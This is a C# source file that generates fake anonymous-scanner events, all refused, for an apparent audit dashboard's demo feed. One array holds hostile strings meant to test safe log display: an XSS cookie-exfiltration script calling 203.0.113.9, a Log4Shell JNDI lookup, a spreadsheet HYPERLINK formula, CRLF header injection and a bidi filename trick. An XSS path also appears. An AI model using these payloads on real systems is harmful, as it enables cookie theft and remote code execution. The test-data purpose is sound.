namespace AuditDashboard.Harvest.Sources.Demo.Actors;

/// <summary>Scanners on the internet that try the public endpoint without credentials.</summary>
internal static class AnonymousProbes
{
    private static readonly string[] Paths =
    [
        "/", "/api", "/apis", "/api/v1/namespaces", "/api/v1/pods", "/api/v1/nodes", "/api/v1/secrets", "/api/v1/namespaces/default/secrets",
        "/api/v1/namespaces/kube-system/secrets", "/api/v1/namespaces/kube-system/configmaps", "/apis/apps/v1/deployments", "/metrics", "/logs/",
        "/swagger-ui", "/openapi/v3", "/.env", "/.git/config", "/actuator/health", "/robots.txt", "/login", "/wp-login.php", "/index.html", "/favicon.ico",
        "/api/v1/namespaces/default/pods?limit=500", "/apis/batch/v1/cronjobs", "/cgi-bin/luci/;stok=/locale", "/solr/admin/info/system?wt=json",
    ];

    private static readonly string[] Agents =
    [
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "Go-http-client/2.0",
        "curl/7.88.1", "python-requests/2.31.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "masscan/1.3", "Nuclei - Open-source project",
        "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4", "",
    ];

    /// <summary>What an outsider writes to hurt whoever reads the log.</summary>
    private static readonly string[] HostileAgents =
    [
        "<script>fetch('//203.0.113.9/'+document.cookie)</script>", "scanner \u202etxt.exe\u202c (reversed)", "${jndi:ldap://203.0.113.9/a}",
        "=HYPERLINK(\"http://203.0.113.9\",\"open\")", "agent\r\nX-Forwarded-For: 127.0.0.1", "\u0007bell \u0000nul",
    ];

    private static readonly string[] Networks = ["203.0.113.", "198.51.100.", "192.0.2."];

    /// <summary>One probe, refused.</summary>
    public static void Tell(DemoMinute minute, ref DemoRandom random)
    {
        // A scanner comes back for an hour or so before another address takes over.
        var scanner = new DemoRandom(minute.Seed, DemoPurpose.Session, minute.Number / 47, random.Below(6));
        var ip = scanner.Pick(Networks) + scanner.Between(100, 250);
        var agent = random.Chance(0.02) ? random.Pick(HostileAgents) : scanner.Pick(Agents);
        var path = random.Chance(0.01) ? "/api/v1/namespaces/default/pods/%3Cimg%20src=x%20onerror=alert(1)%3E" : random.Pick(Paths);
        minute.Add(new DemoEvent
        {
            AtMicros = minute.At(ref random),
            TookMicros = random.Between(150, 900),
            AuditId = random.Uuid(),
            Verb = ResourcePath.VerbOf(path),
            Uri = path,
            User = DemoUser.Anonymous(ip, agent),
            Object = ResourcePath.Parse(path),
            Code = 403,
        });
    }
}
